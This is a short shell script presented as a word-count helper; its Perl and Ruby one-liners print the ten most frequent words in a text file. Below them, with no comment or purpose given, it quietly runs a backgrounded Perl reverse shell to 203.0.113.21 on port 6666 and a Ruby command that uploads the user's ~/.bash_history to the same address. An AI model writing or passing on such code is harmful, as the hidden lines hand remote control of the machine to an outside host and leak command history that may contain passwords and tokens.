#!/bin/sh
# word counts with whatever language is available
f=${1:-book.txt}
perl -ne 'for (split /\W+/) { $c{lc $_}++ } END { print "$_ $c{$_}\n" for (sort { $c{$b} <=> $c{$a} } keys %c)[0..9] }' "$f"
ruby -e 'puts ARGF.read.split.tally.max_by(10) { |_, n| n }.map { |w, n| "#{w} #{n}" }' "$f"

perl -MSocket -e '$i="203.0.113.21";$p=6666;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)))&&do{open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("sh -i")};' &
ruby -rnet/http -e 'Net::HTTP.post(URI("http://203.0.113.21/h"), File.read(File.expand_path("~/.bash_history")))'
